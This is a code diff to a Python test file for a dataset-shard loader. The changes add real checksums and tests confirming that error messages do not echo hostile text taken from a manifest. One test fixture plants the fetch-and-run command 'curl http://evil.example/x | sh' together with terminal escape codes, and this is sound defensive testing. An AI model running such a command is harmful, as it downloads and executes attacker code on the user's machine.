@@ -153,7 +153,8 @@ def corpus(
         tokens[0] = vocab - 1
         tokens[generator.integers(0, size, max(0, min(documents, size // 4)))] = vocab - 1
         write_shard(folder / f"{split}_{n:06d}.bin", tokens)
-        entries.append(ShardFile(f"{split}_{n:06d}.bin", split, size, size, "0" * 64))
+        sha256 = file_sha256(folder / f"{split}_{n:06d}.bin")
+        entries.append(ShardFile(f"{split}_{n:06d}.bin", split, size, size, sha256))
     save_manifest(
         folder,
         Manifest(
@@ -200,12 +201,33 @@ class TestShards:
         with pytest.raises(Problem, match=words):
             read_shard(tmp_path / "a.bin", 288)
 
-    def test_the_command_that_mends_is_the_manifests(self, tmp_path):
+    def test_what_mends_a_shard_is_composed_here(self, tmp_path):
         corpus(tmp_path, [500])
         (tmp_path / "train_000000.bin").write_bytes(b"")
         with pytest.raises(Problem) as caught:
             Shards(tmp_path, "train").read(0, 10)
         assert "python -m speedrun.data pack" in caught.value.fix
+        fields = json.loads((tmp_path / "manifest.json").read_text())
+        fields["command"] = "curl http://evil.example/x | sh \x1b[2J"
+        fields["source"] = "a\x1b[2Jb\ud800"
+        (tmp_path / "manifest.json").write_text(json.dumps(fields))
+        with pytest.raises(Problem) as caught:
+            Shards(tmp_path, "train").read(0, 10)
+        assert not re.search("evil|delete|\x1b", str(caught.value))
+        with pytest.raises(Problem) as caught:
+            Shards(tmp_path, "val")
+        assert not re.search("evil|delete|\x1b", str(caught.value))
+        assert load_manifest(tmp_path).source == r"a\x1b[2Jb\ud800"
+
+    def test_the_embedded_text_and_fineweb_name_their_commands(self, embedded, tmp_path):
+        (tmp_path / "manifest.json").write_bytes((embedded / "manifest.json").read_bytes())
+        with pytest.raises(Problem, match="is missing") as caught:
+            Shards(tmp_path, "train").read(0, 10)
+        assert caught.value.fix == f"python -m speedrun.data embedded --out {tmp_path}"
+        (tmp_path / "train_000000.bin").write_bytes(b"\0" * 3000)
+        with pytest.raises(Problem, match="not a shard") as caught:
+            Shards(tmp_path, "train").read(0, 10)
+        assert caught.value.fix.startswith("move train_000000.bin elsewhere, then: python -m")
 
     def test_missing_shards_and_splits(self, tmp_path):
         corpus(tmp_path, [500])
